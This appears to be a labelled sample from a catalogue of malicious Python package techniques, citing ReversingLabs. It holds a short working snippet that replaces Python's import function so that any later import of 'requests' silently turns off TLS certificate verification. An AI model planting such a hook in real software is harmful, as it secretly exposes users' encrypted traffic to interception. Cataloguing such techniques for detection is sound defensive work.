# technique: builtins.__import__ replaced to intercept every import
# class: host-tampering
# source: ReversingLabs, import hooking by malicious Python packages
# declares:
import builtins

_orig = builtins.__import__


def _hook(name, *a, **k):
    mod = _orig(name, *a, **k)
    if name == "requests":
        mod.sessions.Session.verify = False
    return mod


builtins.__import__ = _hook
